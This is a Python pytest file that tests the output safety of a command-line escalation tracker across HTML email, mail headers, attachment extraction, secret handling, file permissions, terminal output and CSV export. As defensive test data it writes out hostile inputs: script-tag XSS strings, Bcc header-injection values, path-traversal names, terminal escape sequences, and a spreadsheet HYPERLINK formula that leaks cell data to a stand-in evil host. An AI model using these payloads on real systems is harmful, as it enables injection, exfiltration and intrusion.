"""What the tool writes is safe: HTML escapes what people typed, no field can add a mail
header or a recipient, attachment names cannot leave the folder they are extracted to,
secrets appear nowhere, and the files it creates are its owner's alone. Both stores."""
import json
import os
import re
import stat
import subprocess
import sys

import pytest

from jobs_helpers import query
from rel_helpers import is_postgres, proc_env, sqlite_path

CODE = "ESC-2024-11-28-001"
SARAH, JOHN = "sarah.martinez", "john.smith"
NOW = "2024-12-02T10:00:00-05:00"
SCRIPT = "<script>alert('x')</script>"
EVIL = "evil@attacker.example"


def sql(db_url, statement, *params):
    from escalate_cli.db import make_database
    db = make_database(db_url)
    db.connect()
    try:
        db.execute_sql(statement.replace("?", db.param), params)
    finally:
        db.close()


def deliver(run, now=NOW):
    r = run("jobs", "deliver", now=now)
    assert r.exit_code == 0, r.stderr


# -- HTML -----------------------------------------------------------------------------------

def test_script_in_what_people_type_arrives_as_text(run, demo, smtp, config_file):
    """A <script> in a title, a description, a task, a note to the reporter and a name is
    escaped in every HTML part: notifications, the client email, task emails, digests."""
    config_file.write_text(config_file.read_text() + "[digest]\nsend_empty = true\n")
    deliver(run, "2024-11-28T23:50:00-05:00")
    smtp.handler.messages.clear()
    r = run("create", "--title", f"Rate {SCRIPT}", "--category", "Client Complaint",
            "--priority", "high", "--account", "Google Inc.", "--contact", "jane@google.com",
            "--contract", "C-2024-08-15-GOOG-001", "--description",
            f"Client wrote: {SCRIPT} <img src=x onerror=alert(1)>", user=JOHN, now=NOW)
    assert r.exit_code == 0, r.stderr
    code = r.stdout.strip()
    steps = [
        ("claim", code),
        ("task", code, "--title", f"Fix {SCRIPT}", "--assign", "finance", "--due",
         "2024-12-03 17:00", "--description", SCRIPT),
        ("message", code, f"Thanks! {SCRIPT}"),
        ("email", code, "-t", "client-followup", "--subject", f"Follow-up {SCRIPT}"),
        ("escalate", code, "--to", "coo", "--note", SCRIPT),
    ]
    for args in steps:
        r = run(*args, user=SARAH, now=NOW)
        assert r.exit_code == 0, (args, r.stderr)
    assert run("jobs", "sla-sweep", now="2024-12-04T10:00:00-05:00").exit_code == 0
    assert run("jobs", "digest", now="2024-12-04T10:00:00-05:00").exit_code == 0
    deliver(run, "2024-12-04T10:00:00-05:00")
    htmls = [(m.subject, m.text("text/html")) for m in smtp.messages if m.text("text/html")]
    kinds = " | ".join(s for s, _ in htmls)
    for expected in ("Escalation: Client complaint", "has taken ownership", "Task:",
                     "Update on", "Follow-up", "Escalated to you", "Daily digest",
                     "Leadership digest"):
        assert expected in kinds, (expected, kinds)
    for subject, html in htmls:
        assert "<script" not in html.lower() and "<img" not in html.lower(), subject
        assert "onerror=alert" not in html or "&lt;img" in html, subject
    assert any("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in h for _, h in htmls)
    texts = [m.text() for m in smtp.messages]
    assert any(SCRIPT in t for t in texts)          # the plain text keeps what was typed


# -- headers --------------------------------------------------------------------------------

INJECT = f"Name\r\nBcc: {EVIL}"


@pytest.mark.parametrize("args", [
    ("create", "--title", f"Invoice\r\nBcc: {EVIL}", "--category", "Client Complaint",
     "--priority", "low", "--description", "d"),
    ("create", "--title", "Invoice\u2028Bcc: x@y.z", "--category", "Client Complaint",
     "--priority", "low", "--description", "d"),
    ("user", "add", "eve", "--name", INJECT, "--email", "eve@intime.com", "--role", "ic"),
    ("user", "add", "eve", "--name", "Eve", "--email", f"eve@intime.com\nBcc: {EVIL}",
     "--role", "ic"),
    ("user", "add", "eve", "--name", "Eve", "--email", "eve@intime.com", "--role", "ic",
     "--title", "IC\nBcc: x"),
    ("team", "add", "legal", "--name", INJECT, "--email", "legal@intime.com"),
    ("pod", "add", "Pod\nC", "--manager", SARAH),
    ("email", CODE, "-t", "client-followup", "--subject", f"Hi\nBcc: {EVIL}"),
    ("email", CODE, "-t", "client-followup", "--var", f"subject_line=Hi\r\nBcc: {EVIL}"),
    ("email", CODE, "-t", "client-followup", "--cc", f"a@b.co\r\nBcc: {EVIL}"),
    ("email", CODE, "-t", "client-followup", "--to", f"jane@google.com\r\nBcc: {EVIL}"),
    ("task", CODE, "--title", f"Invoice\nBcc: {EVIL}", "--assign", "finance", "--due",
     "2024-12-03 17:00"),
    ("call", "schedule", CODE, "--at", "2024-12-03 09:00", "--location", f"Room\r\nBcc: {EVIL}"),
    ("progress", CODE, "Waiting\nBcc: x"),
])
def test_line_breaks_in_header_fields_are_refused_as_typed(run, demo, snap, args):
    assert run("claim", CODE, user=SARAH, now=NOW).exit_code == 0
    before = snap()
    user = "admin" if args[0] in ("user", "team", "pod") else (
        JOHN if args[0] == "create" else SARAH)
    r = run(*args, user=user, now=NOW)
    assert r.exit_code == 1, (args, r.stdout, r.stderr)
    assert r.stderr.startswith("Error: ") and r.stderr.count("\n") == 1, r.stderr
    assert snap() == before


def test_import_refuses_line_breaks_in_names(run, demo, snap, tmp_path):
    f = tmp_path / "contacts.csv"
    f.write_text('account,name,email,phone,title\n'
                 f'Google Inc.,"Jo\r\nBcc: {EVIL}",jo@google.com,,Buyer\n')
    before = snap()
    r = run("import", "contacts", str(f), user="admin")
    assert r.exit_code == 1
    assert r.stderr.splitlines()[0] == \
        f"{f}:2: name must be one line (no line breaks or control characters)"   # where it starts
    assert snap() == before


def test_stored_line_breaks_never_become_headers(run, demo, db_url, smtp):
    """Records written before these checks (or by another tool) with line breaks in names,
    titles, accounts and teams: every message still goes out, to the right people only,
    with one-line subjects and no added header."""
    deliver(run, "2024-11-28T23:50:00-05:00")
    smtp.handler.messages.clear()
    sql(db_url, 'UPDATE "user" SET "name" = ? WHERE "login" = ?', f"John\r\nBcc: {EVIL}", JOHN)
    sql(db_url, 'UPDATE "account" SET "name" = ?', f"Google\nBcc: {EVIL}")
    sql(db_url, 'UPDATE "contact" SET "name" = ? WHERE "email" = ?', f"Jane\r\nBcc: {EVIL}",
        "jane@google.com")
    sql(db_url, 'UPDATE "team" SET "name" = ?', f"Finance\r\nBcc: {EVIL}")
    sql(db_url, 'UPDATE "escalation" SET "title" = ?', f"Unauthorized\r\nBcc: {EVIL}")
    for args in [("claim", CODE),
                 ("email", CODE, "-t", "client-apology", "--var", "billed_rate=120", "--var",
                  "hours=160", "--var", "credit=500", "--var", "call_time=9:00 AM"),
                 ("task", CODE, "--title", "Issue corrected invoice", "--assign", "finance",
                  "--due", "2024-12-03 17:00"),
                 ("call", "schedule", CODE, "--at", "2024-12-03 09:00"),
                 ("resolve", CODE, "--notify", "ic,coo,ceo", "--notes",
                  "Corrected invoice issued at the agreed rate; client accepted the apology.")]:
        r = run(*args, user=SARAH, now=NOW)
        assert r.exit_code == 0, (args, r.stderr)
    deliver(run, "2024-12-03T12:00:00-05:00")
    assert len(smtp.messages) >= 7
    for m in smtp.messages:
        assert EVIL not in [a.lower() for a in m.rcpt_tos], m.subject
        headers = m.raw.split(b"\r\n\r\n", 1)[0].decode("utf-8", "replace")
        assert not re.search(r"(?im)^bcc:", headers), headers
        assert "\n" not in m.subject and "\r" not in m.subject
    dead = query(db_url, 'SELECT "id", "last_error" FROM "outbox" WHERE "status" <> ? '
                         'AND "channel" = ?', "sent", "email")
    assert dead == []


def test_company_name_with_a_line_break_is_a_settings_error(run, demo, config_file):
    config_file.write_text('company = "InTime\\r\\nBcc: x@y.z"\n')
    r = run("list", user=SARAH)
    assert (r.exit_code, r.stderr) == (
        1, "Error: settings: company must be one line (no line breaks or control characters)\n")


# -- attachments ----------------------------------------------------------------------------

NASTY = ["../../escape.txt", "/tmp/absolute.txt", "..\\..\\windows.txt", "..", ".", "",
         "a/../../b.txt", "sub/dir/deep.txt", "nul\x00byte.txt", "\u202etxt.exe", ".hidden",
         "con\r\nfusion.txt", "x" * 255]


def test_attachment_names_cannot_escape_the_folder(run, demo, db_url, tmp_path):
    import hashlib
    esc_id = query(db_url, 'SELECT "id" FROM "escalation"')[0]["id"]
    for i, name in enumerate(NASTY):
        data = f"file {i}".encode()
        sql(db_url, 'INSERT INTO "attachment" ("escalation_id", "name", "content_type", "size", '
                    '"sha256", "data", "created_at") VALUES (?, ?, ?, ?, ?, ?, ?)',
            esc_id, name.replace("\x00", ""), "text/plain", len(data),
            hashlib.sha256(data).hexdigest(), data, "2024-12-02 15:00:00")
    ids = [r["id"] for r in query(db_url, 'SELECT "id" FROM "attachment" WHERE "name" NOT LIKE ? '
                                          'ORDER BY "id"', "%.pdf")][1:]    # not the demo's .txt
    assert len(ids) == len(NASTY)
    outer = tmp_path / "outer"
    for i, att_id in enumerate(ids):
        folder = outer / f"in{i}"
        folder.mkdir(parents=True)
        r = run("attachment", "get", CODE, att_id, "-o", str(folder), user=SARAH)
        assert r.exit_code == 0, (att_id, r.stderr)
        written = r.stdout.strip()
        assert os.path.dirname(written) == str(folder.resolve()), written
        assert [p.name for p in folder.iterdir()] == [os.path.basename(written)]
        assert stat.S_IMODE(os.stat(written).st_mode) == 0o600
        assert open(written, "rb").read() == f"file {i}".encode()
    assert sorted(p.name for p in outer.iterdir()) == sorted(f"in{i}" for i in range(len(ids)))
    folder = outer / "in0"
    # a link planted in the folder under the attachment's name is not followed
    target = tmp_path / "victim.txt"
    target.write_text("keep me")
    os.symlink(target, folder / "planted.txt")
    sql(db_url, 'UPDATE "attachment" SET "name" = ? WHERE "id" = ?', "planted.txt", ids[1])
    r = run("attachment", "get", CODE, ids[1], "-o", str(folder), user=SARAH)
    assert r.exit_code == 1 and r.stderr.startswith("Error: Refusing to write"), r.stderr
    assert target.read_text() == "keep me"
    # and a name given on the command line is a name, not a path
    r = run("attachment", "get", CODE, "../../etc/passwd", "-o", str(folder), user=SARAH)
    assert (r.exit_code, r.stderr) == (3, f"Error: No attachment '../../etc/passwd' on {CODE}\n")


# -- secrets --------------------------------------------------------------------------------

PASSWORD = "hunter2-Sup3rSecret"
TOKEN = "tok-Sup3rSecret"


@pytest.fixture
def auth_smtp(base_env):
    """An SMTP server that wants a login and refuses every password."""
    from aiosmtpd.controller import Controller
    from aiosmtpd.smtp import AuthResult

    from smtp_server import Handler, free_port
    tried = []

    def authenticator(server, session, envelope, mechanism, auth_data):
        tried.append(mechanism)
        return AuthResult(success=False, handled=False)
    port = free_port()
    controller = Controller(Handler(), hostname="127.0.0.1", port=port, auth_required=True,
                            auth_require_tls=False, authenticator=authenticator)
    controller.start()
    base_env.update(ESCALATE_SMTP_HOST="127.0.0.1", ESCALATE_SMTP_PORT=str(port),
                    ESCALATE_SMTP_USER="escalate", ESCALATE_SMTP_PASSWORD=PASSWORD,
                    ESCALATE_SMS_URL=f"json://sms-user:{TOKEN}@127.0.0.1:9/sms?:to={{to}}")
    yield tried
    controller.stop()


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
def test_secrets_never_in_output_logs_events_or_errors(run, demo, db_url, auth_smtp, snap):
    # a failing login, a failing SMS gateway: from the command, the job and its log
    assert run("claim", CODE, user=SARAH, now=NOW).exit_code == 0
    texts = []
    r = run("email", CODE, "-t", "client-followup", user=SARAH, now=NOW)
    assert (r.exit_code, r.stderr) == (1, "Error: Failed to send email. Please try again.\n")
    texts.append(r.stdout + r.stderr)
    for args in (("jobs", "deliver", "-v"), ("jobs", "sla-sweep", "-v"),
                 ("jobs", "status", "--format", "json"), ("outbox", "--failed", "--format", "json"),
                 ("config", "show"), ("config", "show", "--format", "json"),
                 ("events", "--format", "json")):
        r = run(*args, user="admin", now="2024-12-02T11:00:00-05:00")
        texts.append(r.stdout + r.stderr)
    assert auth_smtp, "the server was asked to authenticate"
    everything = "\n".join(texts)
    assert "SMTP login refused: 535" in everything
    assert "SMS to +15550100001 failed" in everything
    assert PASSWORD not in everything and TOKEN not in everything
    # nor in any row of any table
    dump = json.dumps(snap(), default=str)
    assert PASSWORD not in dump and TOKEN not in dump


def test_database_password_never_shown(run, tmp_path):
    url = "postgresql://escalate:pw-Sup3rSecret@127.0.0.1:1/escalate"
    for args in (("init",), ("list",), ("config", "show")):
        r = run("--db", url, *args, user="admin")
        assert "pw-Sup3rSecret" not in r.stdout + r.stderr, args
    r = run("--db", url, "init")
    assert r.exit_code == 1 and r.stderr.startswith("Error: cannot use the database: ")


# -- files ------------------------------------------------------------------------------------

def test_files_the_tool_creates_are_private(base_env, db_url, tmp_path):
    """With the most permissive umask: the data folder, the SQLite file and its -wal and -shm,
    backups, extracted attachments."""
    env = proc_env(base_env, user="admin")
    if not is_postgres(db_url):
        env.pop("ESCALATE_DB")                   # the default: a file in the XDG data folder
    paths = []

    def escalate(*args):
        r = subprocess.run([sys.executable, "-m", "escalate_cli", *args], env=env, umask=0,
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, (args, r.stderr)
        return r.stdout
    escalate("init", "--demo")
    escalate("claim", CODE)
    out = tmp_path / "out"
    out.mkdir(mode=0o700)
    paths.append(escalate("attachment", "get", CODE, "invoice-nov-2024-google.pdf", "-o",
                          str(out)).strip())
    if not is_postgres(db_url):
        import sqlite3
        data = tmp_path / "data" / "escalate"
        db = data / "escalate.db"
        assert stat.S_IMODE(os.stat(data).st_mode) == 0o700
        escalate("backup", str(tmp_path / "backup.db"))
        paths += [db, tmp_path / "backup.db"]
        # -wal and -shm exist while the store is open (SQLite removes them on the last close)
        # and take the database file's mode, whatever the umask of who opens it
        old = os.umask(0)
        try:
            holder = sqlite3.connect(db)
            holder.execute("SELECT COUNT(*) FROM escalation").fetchone()
        finally:
            os.umask(old)
        try:
            escalate("note", CODE, "Checked the invoice")
            for path in (f"{db}-wal", f"{db}-shm"):
                assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path
        finally:
            holder.close()
        assert sqlite_path(base_env["ESCALATE_DB"]) != str(db)
    for path in paths:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


# -- terminals ------------------------------------------------------------------------------

def test_escape_sequences_people_type_are_shown_not_obeyed(run, demo):
    """A description, a note or a message with terminal escape sequences (clear the screen,
    retitle the window), a carriage return or a bidi override is printed escaped in every
    table and screen; JSON keeps the text as typed."""
    trap = "Billed \x1b[2J\x1b]0;pwned\x07 $120\rOK \u202eevil"
    r = run("create", "--title", "Terminal trap", "--category", "Client Complaint", "--priority",
            "low", "--description", trap, "--assessment", trap, user=JOHN, now=NOW)
    assert r.exit_code == 0, r.stderr
    code = r.stdout.strip()
    for args in (("claim", code), ("note", code, trap), ("hold", code, "--reason", trap),
                 ("message", code, trap)):
        assert run(*args, user=SARAH, now=NOW, env={"ESCALATE_SMTP_PORT": "9"}).exit_code == 0
    outputs = [run(*args, user=user, now=NOW).stdout for args, user in (
        (("show", code), SARAH), (("timeline", code), SARAH), (("show", code, "--format", "table"),
                                                                JOHN),
        (("sla", "explain", code), SARAH), (("inbox",), JOHN), (("events", "--format", "table"),
                                                                 SARAH),
        (("outbox", "--all"), SARAH))]
    for out in outputs:
        assert "\x1b" not in out and "\r" not in out and "\u202e" not in out, out[:300]
    assert "\\x1b[2J" in outputs[0] and "\\x1b]0;pwned\\x07" in outputs[0]
    shown = json.loads(run("show", code, "--format", "json", user=SARAH).stdout)
    assert shown["description"] == trap


def test_csv_for_spreadsheets_never_carries_a_formula(run, demo):
    import csv
    import io
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    r = run("create", "--title", title, "--category", "Client Complaint", "--priority", "low",
            "--description", "@SUM(1+1)", user="john.smith", now="2024-11-29T08:00:00-05:00")
    assert r.exit_code == 0, r.stderr
    code = r.stdout.strip()
    for args in (("list", "--format", "csv"), ("show", code, "--format", "csv"),
                 ("search", "HYPERLINK", "--format", "csv")):
        out = run(*args, user="sarah.martinez", now="2024-11-29T08:00:00-05:00")
        assert out.exit_code == 0, out.stderr
        cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
        assert "'" + title in cells, args
        assert not any(c.startswith(("=", "+", "@")) for c in cells), args
    listed = list(csv.DictReader(io.StringIO(
        run("list", "--format", "csv", user="sarah.martinez").stdout)))
    assert {row["code"] for row in listed} == {code, "ESC-2024-11-28-001"}
